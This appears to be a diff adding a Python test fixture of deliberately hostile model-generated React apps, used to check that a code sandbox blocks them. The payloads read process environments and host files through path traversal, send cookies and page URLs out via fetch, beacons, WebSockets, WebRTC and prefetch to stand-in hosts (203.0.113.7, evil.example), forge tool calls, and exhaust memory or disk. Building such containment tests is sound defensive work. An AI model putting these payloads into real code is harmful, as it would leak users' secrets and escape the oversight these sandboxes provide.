@@ -1,0 +1,119 @@
+"""Hostile model answers: one answer per case and the bucket it must land in, in every sandbox.
+
+Each answer is what a model could return (the JSON output contract). `{tcp}` and `{udp}` are filled with the
+ports of a TCP and a UDP listener on the host's 127.0.0.1 that must receive nothing; 203.0.113.7 is a
+documentation address (RFC 5737) that nothing may be sent to. `evidence` names what the slot's evidence
+must show (checked by tests/sandbox/test_hostile.py).
+"""
+
+from __future__ import annotations
+
+import json
+from dataclasses import dataclass
+
+
+@dataclass(frozen=True)
+class HostileCase:
+    id: str
+    files: dict[str, str]
+    bucket: str  # the FailureBucket value the slot must be recorded with
+    evidence: tuple[str, ...] = ()  # named checks on the evidence (see test_hostile.EVIDENCE_CHECKS)
+    note: str = ""
+
+    def answer(self, *, tcp: int, udp: int) -> str:
+        files = {path: content.replace("{tcp}", str(tcp)).replace("{udp}", str(udp))
+                 for path, content in self.files.items()}
+        return json.dumps({"assistant_text": f"Here is the app ({self.id}).", "files": files})
+
+
+def _app(body: str, *, effect: str = "") -> dict[str, str]:
+    """src/App.jsx rendering `body` (JSX) after running `effect` (statements) once on mount."""
+    return {"src/App.jsx": (
+        'import React, { useEffect } from "react";\n'
+        "export default function App() {\n"
+        f"  useEffect(() => {{ {effect} }}, []);\n"
+        f"  return <main>{body}</main>;\n"
+        "}\n")}
+
+
+_REJECTED = "build_failed"  # the bucket the existing rejection path records (vetted and refused)
+
+CASES: tuple[HostileCase, ...] = (
+    # --- the runner's environment and the host's files -------------------------------------------------
+    HostileCase("env-raw-import", {"src/App.jsx": (
+        "import env from '../../../../../../proc/1/environ?raw';\n"
+        "export default function App() { return <pre>{env}</pre>; }\n")}, _REJECTED, ("rejected",)),
+    HostileCase("env-glob-root", {"src/App.jsx": (
+        "const found = import.meta.glob('/proc/**/environ', { query: '?raw', import: 'default', eager: true });\n"
+        "export default function App() { return <pre>ready {JSON.stringify(found)}</pre>; }\n")}, "ok",
+        note="'/' is the workspace root for Vite: the glob matches nothing"),
+    HostileCase("env-glob-escape", {"src/App.jsx": (
+        "const found = import.meta.glob('../../../../proc/*/environ', { query: '?raw', eager: true });\n"
+        "export default function App() { return <pre>{JSON.stringify(found)}</pre>; }\n")}, _REJECTED, ("rejected",)),
+    HostileCase("mountinfo-css-url", {
+        "src/App.jsx": "import './leak.css';\nexport default function App() { return <main>ready</main>; }\n",
+        "src/leak.css": "body { background: url(../../../../proc/self/mountinfo); }\n"}, _REJECTED, ("rejected",)),
+    HostileCase("node-builtins", {"src/App.jsx": (
+        "import fs from 'fs';\nimport { execSync } from 'node:child_process';\n"
+        "export default function App() { return <pre>{String(fs) + execSync('env')}</pre>; }\n")}, _REJECTED,
+        ("rejected",)),
+    # --- network -----------------------------------------------------------------------------------------
+    HostileCase("exfil-requests", _app("ready", effect=(
+        "const data = encodeURIComponent(document.cookie + location.href);"
+        "fetch('http://127.0.0.1:{tcp}/fetch?d=' + data).catch(() => {});"
+        "fetch('http://203.0.113.7/fetch?d=' + data).catch(() => {});"
+        "const xhr = new XMLHttpRequest(); xhr.open('GET', 'http://127.0.0.1:{tcp}/xhr'); try { xhr.send(); } catch (e) {}"
+        "try { new WebSocket('ws://127.0.0.1:{tcp}/ws'); } catch (e) {}"
+        "try { new EventSource('http://127.0.0.1:{tcp}/sse'); } catch (e) {}"
+        "try { navigator.sendBeacon('http://127.0.0.1:{tcp}/beacon', data); } catch (e) {}"
+        "const img = new Image(); img.src = 'http://203.0.113.7/pixel.png?d=' + data;")), "ok", ("csp_blocked",)),
+    HostileCase("webrtc", _app("ready", effect=(
+        "const pc = new RTCPeerConnection({ iceServers: ["
+        "{ urls: 'stun:127.0.0.1:{udp}' }, { urls: 'stun:203.0.113.7:3478' },"
+        "{ urls: 'turn:127.0.0.1:{udp}?transport=udp', username: 'u', credential: 'p' },"
+        "{ urls: 'turn:203.0.113.7:3478?transport=tcp', username: 'u', credential: 'p' }] });"
+        "pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer));")), "ok",
+        ("webrtc_recorded",)),
+    HostileCase("speculative", _app("ready", effect=(
+        "const rules = document.createElement('script'); rules.type = 'speculationrules';"
+        "rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://127.0.0.1:{tcp}/prefetch?d=secret'] }],"
+        " prerender: [{ source: 'list', urls: ['http://localhost:{tcp}/prerender'] }] });"
+        "document.head.append(rules);"
+        "for (const [rel, href] of [['prefetch', 'http://127.0.0.1:{tcp}/link-prefetch'], ['preconnect', 'http://127.0.0.1:{tcp}'],"
+        " ['dns-prefetch', 'http://evil.example'], ['prefetch', 'http://localhost:{tcp}/link']]) {"
+        " const link = document.createElement('link'); link.rel = rel; link.href = href; document.head.append(link); }")), "ok"),
+    HostileCase("forged-tool-call", _app("ready", effect=(
+        "fetch('/__tools/call', { method: 'POST', headers: { 'Content-Type': 'application/json' },"
+        " body: JSON.stringify({ tool: '../../etc/passwd', arguments: { x: 1 } }) }).catch(() => {});"
+        "fetch('/__tools/list').catch(() => {});")), "ok", ("tool_call_refused",)),
+    # --- the page itself ---------------------------------------------------------------------------------
+    HostileCase("navigate-away", _app("leaving", effect="location.href = 'http://127.0.0.1:{tcp}/navigated';"),
+                "runtime_error"),
+    HostileCase("popups", _app("ready", effect=(
+        "window.open('http://127.0.0.1:{tcp}/popup'); window.open('about:blank');")), "ok", ("popups",)),
+    HostileCase("dialogs", _app("ready", effect="alert('a'); confirm('b'); prompt('c', 'd');"), "ok", ("dialogs",)),
+    HostileCase("render-loop", {"src/App.jsx": (
+        'import React, { useState } from "react";\n'
+        "export default function App() { const [n, setN] = useState(0); setN(n + 1); return <p>{n}</p>; }\n")},
+        "runtime_error"),
+    HostileCase("console-flood", _app("ready", effect="for (let i = 0; i < 1000000; i++) console.log('line ' + i);"),
+                "ok", ("console_capped",), note="capped at the source: the page loads in normal time"),
+    HostileCase("memory-hog", _app("ready", effect=(
+        "window.keep = []; for (let i = 0; i < 40; i++) { const a = new Uint8Array(50 * 1024 * 1024); a.fill(1);"
+        " window.keep.push(a); }")), "runtime_error", note="2 GB against a 1 GB browser cap"),
+    # --- the answer's files ------------------------------------------------------------------------------
+    HostileCase("huge-file", {"src/App.jsx": "export default function App() { return <p>x</p>; }\n// "
+                              + "A" * (30 * 1024 * 1024) + "\n"}, _REJECTED, ("rejected", "raw_capped")),
+    HostileCase("many-files", {f"src/f{i}.js": f"export const v{i} = {i};\n" for i in range(500)}, _REJECTED,
+                ("rejected",)),
+    HostileCase("reserved-files", {**_app("x"), "vite.config.js": "export default {};\n",
+                                   "src/main.jsx": "fetch('http://127.0.0.1:{tcp}/');\n",
+                                   "workspace-guard.js": "export const workspaceGuard = () => ({});\n"}, _REJECTED,
+                ("rejected",)),
+    HostileCase("path-traversal", {**_app("x"), "src/../../etc/evil": "x", "/etc/evil2": "x"}, _REJECTED,
+                ("rejected",)),
+    HostileCase("nul-name", {**_app("x"), "src/a\u0000b.js": "x"}, _REJECTED, ("rejected",)),
+    HostileCase("long-name", {**_app("x"), "src/" + "n" * 300 + ".js": "x"}, _REJECTED, ("rejected",)),
+    HostileCase("file-and-folder", {**_app("x"), "src/lib": "x", "src/lib/a.js": "export const a = 1;\n"}, _REJECTED,
+                ("rejected",)),
+)
